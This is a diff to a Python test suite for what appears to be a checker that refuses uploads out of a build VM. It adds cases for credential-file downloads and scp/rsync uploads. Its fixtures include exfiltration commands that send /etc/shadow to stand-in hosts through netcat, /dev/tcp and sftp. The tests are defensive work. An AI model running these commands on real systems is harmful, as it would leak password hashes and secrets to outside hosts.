@@ -320,6 +320,9 @@ def _added(*steps: dict) -> dict:
     (_file(f"{KEYS_BLOB}/ops.pub", "/home/ops/.ssh/authorized_keys"), None),
     (_file("https://example.org/ca/root-ca.pem", "/usr/local/share/ca-certificates/root-ca.crt"), None),
     (_file("https://example.org/a/tokenizer.json", "/opt/model/tokenizer.json"), None),
+    (_file("https://example.org/gcm/git-credential-manager-2.4.1.deb", "/tmp/gcm.deb"), None),  # a product name
+    (_file("https://example.org/py/secretstorage-3.3.3-py3-none-any.whl", "/tmp/s.whl"), None),
+    (_file("https://example.org/a/client_secret.json", "/tmp/c.json"), r"credential or secret file \(client_secret"),
     ({"type": "Shell", "name": "k", "inline": [
         "curl -fsSL https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor -o /usr/share/keyrings/ms.gpg"]},
      None),
@@ -356,6 +359,8 @@ UPLOADS = [
     ("scp -o StrictHostKeyChecking=no /tmp/x ops@backup.x.example:/srv/", "scp"),
     ("rsync -az /home/ backup.x.example:/srv/home/", "rsync"),
     ("rsync -a /etc rsync://x.example/m/", "rsync"),
+    ("scp /tmp/x \"$HOST:/srv/\" | tee /tmp/log", "scp"),
+    ("rsync -a -e ssh /var/log/ ops@${COLLECTOR}:/srv/logs/", "rsync"),
     ("echo 'put /etc/shadow' | sftp ops@x.example", "sftp"),
     ("nc x.example 4444 < /etc/shadow", "netcat"),
     ("cat /etc/shadow > /dev/tcp/203.0.113.5/80", "/dev/tcp"),
@@ -395,6 +400,7 @@ def test_uploads_out_of_the_build_vm_are_refused(command, tool):
     "aws s3 cp s3://bucket/tool.tgz /tmp/tool.tgz",
     "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip",
     "git clone --depth 1 https://x.example/repo.git /opt/repo",
+    "git config --system push.default simple",
     "sudo apt-get update\nsudo apt-get install -y netcat-openbsd",
 ])
 def test_downloads_and_literal_posts_are_not_uploads(command):
